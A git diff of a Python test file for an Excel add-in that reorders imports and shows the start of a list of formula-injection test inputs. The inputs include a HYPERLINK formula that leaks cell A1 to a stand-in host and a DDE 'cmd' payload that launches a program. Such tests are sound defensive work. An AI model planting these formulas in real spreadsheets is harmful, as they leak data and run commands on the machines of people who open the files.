@@ -10,15 +10,15 @@ import datetime as dt
 import shutil
 
 import pytest
+from fake_xlwings import FakeBook, FakeFormula, excel_input
+from python_calamine import CalamineWorkbook
 
 from addin import jobs, ribbon
-from addin.steps import AGING, CALLS, GRADES
 from addin.actions import ACTIONS
 from addin.build.demo_data import generate
 from addin.build.workbook import build_workbook
 from addin.io.xlsx_book import XlsxBook
-from fake_xlwings import FakeBook, FakeFormula, excel_input
-from python_calamine import CalamineWorkbook
+from addin.steps import AGING, CALLS, GRADES
 
 AS_OF = dt.date(2026, 11, 24)
 NAMES = ['=HYPERLINK("http://example.com/?"&A1,"点我")', "=cmd|' /C calc'!A0", "@SUM(1,2)", "+1+1",
